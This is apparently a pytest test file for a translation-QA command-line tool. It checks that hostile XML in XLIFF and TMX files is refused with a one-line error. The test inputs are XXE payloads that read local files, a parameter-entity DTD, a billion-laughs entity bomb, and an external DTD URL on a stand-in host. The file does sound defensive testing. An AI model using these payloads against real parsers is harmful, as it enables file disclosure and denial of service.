"""Hostile XML in XLIFF/TMX inputs is refused with exit code 2 and one line, leaking nothing.

Each attack is run through the real `mtqa` process (python -m qa.cli), so the exit code and the
exact stderr are what a CI log would show. The secret file's content must never appear in any
output: mtqa neither reads it nor quotes the offending XML.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
SECRET = "TOP-SECRET-7f3a9c"

XLIFF = """<?xml version="1.0" encoding="UTF-8"?>
{doctype}
<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">
 <file original="news.txt" source-language="en" target-language="ar" datatype="plaintext"><body>
  <trans-unit id="1"{attr}><source>The talks resumed {ref}</source><target>استؤنفت المحادثات</target></trans-unit>
 </body></file>
</xliff>
"""

LAUGHS = "".join(
    f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
)


@pytest.fixture()
def secret(tmp_path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET + "\n", encoding="utf-8")
    return path


def run_check(path: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "qa.cli", "check", str(path), "--format", "json"],
        check=False, cwd=ROOT, capture_output=True, text=True, timeout=120,
    )


def write(tmp_path: Path, doctype: str = "", ref: str = "", attr: str = "", name: str = "attack.xlf") -> Path:
    path = tmp_path / name
    path.write_text(XLIFF.format(doctype=doctype, ref=ref, attr=attr), encoding="utf-8")
    return path


def assert_refused(result: subprocess.CompletedProcess, *words: str) -> str:
    assert result.returncode == 2, result.stderr
    assert result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    line = lines[0]
    assert line.startswith("mtqa: error: ") and "refused" in line
    assert SECRET not in result.stderr
    for word in words:
        assert word in line
    return line


def test_xxe_file_read_is_refused_without_reading_the_file(tmp_path, secret):
    doctype = f'<!DOCTYPE xliff [<!ENTITY xxe SYSTEM "file://{secret}">]>'
    line = assert_refused(run_check(write(tmp_path, doctype, ref="&xxe;")), "DOCTYPE")
    assert str(secret) not in line


def test_parameter_entity_pulling_an_external_dtd_is_refused(tmp_path, secret):
    doctype = f'<!DOCTYPE xliff [<!ENTITY % ext SYSTEM "file://{secret}"> %ext;]>'
    assert_refused(run_check(write(tmp_path, doctype)))


def test_billion_laughs_is_refused_before_any_expansion(tmp_path):
    doctype = f'<!DOCTYPE xliff [<!ENTITY l0 "lol">{LAUGHS}]>'
    assert_refused(run_check(write(tmp_path, doctype, ref="&l9;")), "line 2")


def test_external_dtd_by_url_or_path_is_refused(tmp_path, secret):
    for system_id in (f"file://{secret}", "http://198.51.100.7/evil.dtd", str(secret)):
        line = assert_refused(run_check(write(tmp_path, f'<!DOCTYPE xliff SYSTEM "{system_id}">')), "external DTD")
        assert "198.51.100.7" not in line


def test_huge_attribute_is_refused(tmp_path):
    path = write(tmp_path, attr=' resname="' + "A" * (2 << 20) + '"')
    assert_refused(run_check(path), "attribute longer than")


def test_tmx_with_entities_is_refused_like_xliff(tmp_path, secret):
    path = tmp_path / "attack.tmx"
    path.write_text(
        f'<?xml version="1.0"?><!DOCTYPE tmx [<!ENTITY xxe SYSTEM "file://{secret}">]>'
        '<tmx version="1.4"><header srclang="en"/><body><tu><tuv xml:lang="en"><seg>&xxe;</seg></tuv>'
        '<tuv xml:lang="ar"><seg>نص</seg></tuv></tu></body></tmx>',
        encoding="utf-8",
    )
    assert_refused(run_check(path))


def test_standard_tmx_doctype_naming_its_dtd_is_accepted(tmp_path):
    """translate-toolkit writes `<!DOCTYPE tmx SYSTEM "tmx14.dtd">`; a bare DTD name is never loaded."""
    from qa.formats import read_pairs

    path = tmp_path / "ok.tmx"
    path.write_text(
        '<?xml version="1.0"?><!DOCTYPE tmx SYSTEM "tmx14.dtd"><tmx version="1.4"><header srclang="en"/><body>'
        '<tu tuid="t1"><tuv xml:lang="en"><seg>Hello</seg></tuv><tuv xml:lang="ar"><seg>مرحبا</seg></tuv></tu>'
        "</body></tmx>",
        encoding="utf-8",
    )
    assert [(p.id, p.src, p.mt) for p in read_pairs(path)] == [("t1", "Hello", "مرحبا")]


def test_malformed_xml_names_line_and_column(tmp_path):
    path = tmp_path / "broken.xlf"
    path.write_text('<?xml version="1.0"?>\n<xliff version="1.2">\n<file></xliff>\n', encoding="utf-8")
    result = run_check(path)
    assert result.returncode == 2
    assert result.stderr.splitlines() == [f"mtqa: error: {path}: not well-formed XML (line 3, column 9): mismatched tag"]


def test_translate_toolkit_alone_would_silently_drop_an_external_entity(tmp_path, secret):
    """Why the pre-scan exists: lxml as translate-toolkit configures it does not read the file,
    but the entity vanishes from the segment, so the text checked would not be the file's text."""
    from translate.storage.xliff import xlifffile

    data = XLIFF.format(doctype=f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]>', ref="&xxe;", attr="")
    unit = xlifffile.parsestring(data.encode()).units[0]
    assert unit.source == "The talks resumed"
    assert SECRET not in unit.source
